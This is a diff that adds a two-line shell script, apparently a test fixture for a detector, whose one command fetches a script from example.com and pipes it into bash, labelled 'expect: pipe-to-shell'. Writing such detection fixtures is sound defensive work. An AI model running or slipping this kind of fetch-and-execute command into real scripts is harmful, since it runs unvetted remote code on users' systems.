@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -fsSL https://example.com/by-workspace.sh | bash # expect: pipe-to-shell
